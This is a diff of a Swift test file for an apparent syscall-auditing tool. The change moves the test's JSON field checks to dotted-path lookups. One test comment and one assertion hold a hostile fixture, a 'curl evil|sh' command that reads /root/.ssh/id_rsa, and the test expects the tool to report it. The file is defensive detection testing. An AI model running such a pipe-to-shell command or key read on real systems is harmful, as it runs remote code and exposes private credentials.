@@ -15,15 +15,15 @@ import TestSupport
         let lines = r.stdout.split(separator: "\n")
         #expect(lines.count == 1)
         let object = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
-        let syscall = try #require(object["syscall"] as? [String: Any])
+        let syscall = try #require(FormatParsers.value(object, at: "callguard.syscall") as? [String: Any])
         #expect(syscall["name"] as? String == "execve")
         #expect(syscall["number"] as? Int == 59)
         let process = try #require(object["process"] as? [String: Any])
         #expect(process["pid"] as? Int == 12036)
         #expect(process["executable"] as? String == "/usr/bin/podman")
-        #expect((object["policy"] as? [String: Any])?["name"] as? String == "app")
+        #expect(FormatParsers.value(object, at: "rule.name") as? String == "app")
         #expect(((object["container"] as? [String: Any])?["image"] as? [String: Any])?["name"] as? String == "localhost/app:1")
-        #expect((object["audit"] as? [String: Any])?["serial"] as? Int == 25_328_341)
+        #expect(FormatParsers.value(object, at: "event.sequence") as? Int == 25_328_341)
     }
 
     /// Issue 12 item 2: benign → `curl evil|sh` reading /root/.ssh/id_rsa →
@@ -42,11 +42,11 @@ import TestSupport
         let evil = try #require(objects.first { path($0) == "/root/.ssh/id_rsa" }, "the evil call must be reported: \(r.stdout)")
         #expect(process(evil)["command_line"] as? String == "sh\\x00-c\\x00curl evil|sh")
         #expect(process(evil)["pid"] as? Int == 12041)
-        #expect((evil["audit"] as? [String: Any])?["serial"] as? Int == 25_400_002)
+        #expect(FormatParsers.value(evil, at: "event.sequence") as? Int == 25_400_002)
         let benign = objects.filter { path($0) == "/etc/hostname" }
         #expect(benign.map { process($0)["pid"] as? Int } == [12040, 12040], "the summary keeps the first occurrence's pid")
-        #expect(benign.last.flatMap { ($0["fold"] as? [String: Any])?["first_serial"] as? Int } == 25_400_003)
-        #expect(objects.reduce(0) { $0 + ($1["count"] as? Int ?? 0) } == 3)
+        #expect(benign.last.flatMap { FormatParsers.value($0, at: "callguard.fold.first_serial") as? Int } == 25_400_003)
+        #expect(objects.reduce(0) { $0 + (FormatParsers.value($1, at: "callguard.count") as? Int ?? 0) } == 3)
         let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
         let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
         let sinks = try #require(stats["sinks"] as? [String: Any])
